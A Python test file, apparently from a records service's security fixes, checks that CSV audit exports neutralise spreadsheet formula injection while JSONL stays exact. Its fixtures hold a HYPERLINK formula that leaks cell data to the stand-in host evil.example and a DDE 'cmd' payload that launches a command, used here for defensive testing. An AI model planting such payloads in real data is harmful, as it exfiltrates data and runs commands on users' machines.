"""Finding 5: CSV export ran formulas.

``X-On-Behalf-Of: =HYPERLINK(...)`` and ``X-Case-Ref: +1+cmd|...`` were written raw into
``/v1/audit/export?format=csv`` (and the console's CSV, which writes the same lines). A cell
that starts with ``=``, ``+``, ``-``, ``@``, tab or CR is now prefixed with ``'``; JSONL
stays exact.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from service.audit import query as audit_query
from tests.records.conftest import RecordsEnv, as_

OFFICER = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CASE_REF = "+1+cmd|' /C calc'!A0"
AUDITOR = as_("audit-office", "auditor")


async def _export(env: RecordsEnv, citizen_id: str, format: str) -> str:
    response = await env.client.get(
        "/v1/audit/export", params={"format": format, "citizen_id": citizen_id}, headers=AUDITOR
    )
    assert response.status_code == 200, response.text
    return response.text


async def _read_with_formulas(env: RecordsEnv) -> str:
    citizen_id, _ = await env.register(given_name="Formula")
    headers = {**as_("welfare", "consumer", on_behalf_of=OFFICER), "X-Case-Ref": CASE_REF}
    read = await env.client.get(
        f"/v1/citizens/{citizen_id}", params={"purpose": "benefit-eligibility"}, headers=headers
    )
    assert read.status_code == 200, read.text
    return citizen_id


async def test_the_api_csv_neutralises_formula_cells(security_env: RecordsEnv) -> None:
    citizen_id = await _read_with_formulas(security_env)

    rows = list(csv.DictReader(io.StringIO(await _export(security_env, citizen_id, "csv"))))

    read = next(row for row in rows if row["action"] == "read")
    assert read["on_behalf_of"] == "'" + OFFICER
    assert read["case_ref"] == "'" + CASE_REF
    for row in rows:
        assert not any(cell.startswith(audit_query._FORMULA_STARTS) for cell in row.values())


async def test_jsonl_stays_exact(security_env: RecordsEnv) -> None:
    citizen_id = await _read_with_formulas(security_env)

    items = [json.loads(line) for line in (await _export(security_env, citizen_id, "jsonl")).splitlines()]

    read = next(item["entry"] for item in items if item["entry"]["action"] == "read")
    assert read["on_behalf_of"] == OFFICER
    assert read["case_ref"] == CASE_REF


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    # The console's CSV download writes its lines with this same function.
    item = {"id": 1, "leaf_index": 0, "entry": {"on_behalf_of": start + "SUM(A1:A2)", "status": 200}}
    (row,) = csv.reader(io.StringIO(audit_query.csv_line(item)))
    assert "'" + start + "SUM(A1:A2)" in row
    assert "200" in row
